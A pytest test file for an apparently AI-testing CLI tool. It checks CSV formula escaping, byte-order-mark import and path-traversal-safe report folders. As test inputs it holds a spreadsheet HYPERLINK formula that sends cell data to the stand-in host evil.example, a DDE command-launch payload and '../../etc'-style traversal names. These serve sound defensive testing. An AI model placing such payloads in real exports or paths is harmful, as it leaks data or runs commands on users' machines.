"""Exports and imports: formula cells escaped (unless turned off), a byte-order mark
accepted, report folders kept under their root."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from corix.cli.main import app
from corix.domain import Level
from corix.report import safe_folder, spreadsheet_safe
from corix.storage import Database
from support.run_builder import RunBuilder

runner = CliRunner()
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3", "-3"),  # a plain number is data
        ("+0.5", "+0.5"),
        ("-1e-3", "-1e-3"),
        ("plain text = fine", "plain text = fine"),
        ("", ""),
        (-3, -3),
        (None, None),
    ],
)
def test_a_cell_a_spreadsheet_would_evaluate_is_escaped(cell: object, written: object) -> None:
    assert spreadsheet_safe(cell) == written


def _turns(path: Path) -> list[dict[str, str]]:
    with (path / "turns.csv").open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


async def test_csv_export_escapes_formulas_unless_asked_not_to(
    any_db: Database, tmp_path: Path
) -> None:
    run = RunBuilder("run-formula")
    run.session("s1", "alpha", "tv_spoilers", Level.MODEL_TESTING, [("Who dies?", FORMULA)])
    run.session("s2", "beta", "pathfinder", Level.RED_TEAMING, [("Hi", FORMULA), ("Go", FORMULA)])
    run_id = await run.write(any_db)
    escaped, raw = tmp_path / "escaped", tmp_path / "raw"
    for out, flags in ((escaped, []), (raw, ["--no-formula-escape"])):
        result = runner.invoke(
            app,
            ["export", run_id, "--format", "csv", "-o", str(out), *flags, "--db", any_db.url],
        )
        assert result.exit_code == 0, result.output
    assert {t["response_text"] for t in _turns(escaped)} == {"'" + FORMULA}
    assert {t["response_text"] for t in _turns(raw)} == {FORMULA}


def test_a_csv_with_a_byte_order_mark_imports(sqlite_db: Database, tmp_path: Path) -> None:
    path = tmp_path / "dialogues.csv"
    path.write_text(
        "\ufeffconversation_id,turn,role,text,application,scenario,level\n"
        "a,1,user,Dinner ideas?,bot,meal_planner,red_teaming\n"
        "a,2,assistant,Try lentils.,bot,meal_planner,red_teaming\n",
        encoding="utf-8",
    )
    result = runner.invoke(app, ["import", str(path), "--db", sqlite_db.url])
    assert result.exit_code == 0, result.output
    run_id = result.output.split("as run ")[1].split()[0]
    listed = runner.invoke(app, ["sessions", "list", run_id, "--json", "--db", sqlite_db.url])
    assert len(json.loads(listed.output)) == 1


@pytest.mark.parametrize(
    ("name", "segment"),
    [
        ("series-../../x", "series-.._.._x"),
        ("../../etc", "_.._etc"),
        ("/abs/path", "_abs_path"),
        ("..", "_"),
        ("run-20260101-0000-abcd", "run-20260101-0000-abcd"),
    ],
)
def test_a_report_folder_name_stays_under_its_root(tmp_path: Path, name: str, segment: str) -> None:
    folder = safe_folder(tmp_path / "reports", name)
    assert folder == tmp_path / "reports" / segment
    assert folder.resolve().parent == (tmp_path / "reports").resolve()
